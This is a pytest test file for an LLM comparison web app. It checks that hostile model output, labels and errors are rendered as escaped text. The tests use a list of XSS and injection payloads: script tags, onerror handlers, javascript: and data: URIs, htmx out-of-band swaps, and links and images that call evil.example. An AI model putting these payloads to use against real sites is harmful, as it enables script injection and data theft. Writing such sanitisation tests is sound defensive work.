"""Text of a hostile model, wherever it is shown: it arrives escaped or sanitised, and acts on nothing."""

from __future__ import annotations

import asyncio
import re
from html.parser import HTMLParser

import pytest

from tests.live import LiveApp
from tests.upstreams import Upstream, wire
from tests.upstreams.exchange import Exchange
from tests.upstreams.scripted import SCENARIOS
from tests.web.conftest import AddBackend, OpenPage, page_with
from webapp.services.markdown import TAGS

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![leak](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&#58;alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href=//evil.example>x</a>",
    '<div hx-get="/backends/oci-llama-70b/remove/" hx-trigger="load">x</div>',
    '<div data-hx-post="/backends/add/" data-hx-trigger="load">x</div>',
    '<div ws-connect="wss://evil.example/">x</div>',
    '<form ws-send><input name="action" value="run"></form>',
    '<div sse-connect="https://evil.example/">x</div>',
    '</div></article><div id="prompt-box" hx-swap-oob="true">swapped</div>',
    '<div id="verdict" hx-swap-oob="outerHTML">fake verdict</div>',
    '<template><div id="lanes" hx-swap-oob="true"></div></template>',
    '<style>*{display:none}</style>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<iframe src="//evil.example"></iframe>',
    '<svg onload=alert(1)><use href="data:image/svg+xml,x#y"/></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<a id="run" name="config" class="button primary" style="position:fixed">x</a>',
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    '{"type":"reset","message":"from the model"}',
    "\x1b]0;title\x07\x1b[31mred",
    "\u202eevil\u202c <\u200bscript>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<!-- --><script>alert(1)</script><!--",
    "<details open ontoggle=alert(1)>",
)  # fmt: skip
SAFE_ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}}


class Box(HTMLParser):
    """Collects what is inside the first element of a class, whose own tag is left out."""

    def __init__(self, css_class: str) -> None:
        super().__init__()
        self.css_class, self.depth, self.tags, self.text = css_class, 0, list[tuple[str, dict[str, str | None]]](), ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self.depth:
            self.tags.append((tag, dict(attrs)))
            self.depth += tag not in ("br", "hr", "img", "input", "link", "meta")
        elif self.css_class in (dict(attrs).get("class") or "").split():
            self.depth = 1

    def handle_endtag(self, tag: str) -> None:
        self.depth -= self.depth > 0

    def handle_data(self, data: str) -> None:
        if self.depth:
            self.text += data


@pytest.fixture
def hostile(monkeypatch: pytest.MonkeyPatch) -> str:
    """A scenario that says every payload, as reasoning first and then as its answer, in pieces of seven characters."""
    text = "\n\n".join(PAYLOADS)

    async def scenario(x: Exchange) -> None:
        await x.begin()
        for key in ("reasoning", "content"):
            for start in range(0, len(text), 7):
                await x.send(wire.event(wire.chunk({key: text[start : start + 7]})))
        await x.finish(100)

    monkeypatch.setitem(SCENARIOS, "ok-hostile", scenario)
    return text


def check(fragment: str) -> None:
    """Fail where model text became anything but text and the few tags of Markdown."""
    box = Box("prose")
    box.feed(fragment)
    assert box.tags, "the answer is missing"
    for tag, attributes in box.tags:
        assert tag in TAGS, tag
        assert set(attributes) <= SAFE_ATTRIBUTES.get(tag, set()), (tag, attributes)
        if "href" in attributes:
            assert re.match(r"https?://", attributes["href"] or ""), attributes
    assert "alert(1)" in box.text, "the text itself is to be seen"
    for thinking in re.findall(r'<div class="plain">(.*?)</div>', fragment, re.DOTALL):
        assert "<" not in thinking
        assert "&lt;script&gt;" in thinking


async def test_a_hostile_answer_is_shown_as_text_wherever_it_is_shown(
    hostile: str, live_app: LiveApp, add_backend: AddBackend, open_here: OpenPage
) -> None:
    async with open_here(await add_backend("ok-hostile"), html=True) as page:
        run = await page.run()
        lane = page.lanes[0]
        assert page.text(lane) == hostile
        assert page.text(lane, "r") == hostile
        check(
            next(
                fragment
                for fragment in page.fragments
                if f'id="answer-{lane}"' in fragment and "data-final" in fragment
            )
        )
        outside = [fragment for fragment in page.fragments if "alert(1)" in fragment]
        assert all(f'id="answer-{lane}"' in fragment for fragment in outside)
        arena = page.arena
    check(await page_with(live_app, f"/runs/{run}/", "alert(1)"))
    check((await asyncio.to_thread(live_app.browser().get, f"/?arena={arena}")).text)


async def test_it_is_shown_as_text_in_the_history_of_the_next_turn_too(
    hostile: str, add_backend: AddBackend, open_here: OpenPage
) -> None:
    async with open_here(await add_backend("ok-hostile"), html=True) as page:
        await page.run(PAYLOADS[0])
        page.fragments.clear()
        await page.run("And again?")
        lanes = next(fragment for fragment in page.fragments if 'id="lanes"' in fragment)
        assert 'class="question"' in lanes
        check(lanes)
        assert "<script" not in lanes


LABEL = '"><img src=x onerror=alert(1)>'


async def test_labels_models_and_errors_are_text_as_well(
    upstream: Upstream, live_app: LiveApp, add_backend: AddBackend, open_here: OpenPage
) -> None:
    slug = await add_backend("fault-u17", label=LABEL)
    named = await add_backend("ok", label=LABEL, model="<b>model</b>")
    async with open_here(slug, named, html=True) as page:
        await page.run(LABEL)
        errors = [end["error"] for end in page.all("end")]
        assert any("<b>badly</b>" in error for error in errors)
        page.fragments.clear()
        await page.send("lane.move", lane=page.lanes[0], by="1")
        await page.fragment('id="lanes"')
        for fragment in page.fragments:
            assert "<img" not in fragment
            assert "<b>badly" not in fragment
            assert "<b>model" not in fragment
    for path in ("/backends/", "/runs/", "/"):
        shown = (await asyncio.to_thread(live_app.browser().get, path)).text
        assert "<img" not in shown
        assert "<b>model" not in shown


async def test_what_a_model_says_is_never_taken_for_a_frame(add_backend: AddBackend, open_here: OpenPage) -> None:
    # A fragment begins with "<" and a frame is made by us: text is always inside one, never one itself.
    async with open_here(await add_backend("ok"), html=True) as page:
        await page.run('{"type":"reset"}')
        assert not page.all("reset")
        assert all(fragment.lstrip().startswith("<") for fragment in page.fragments)
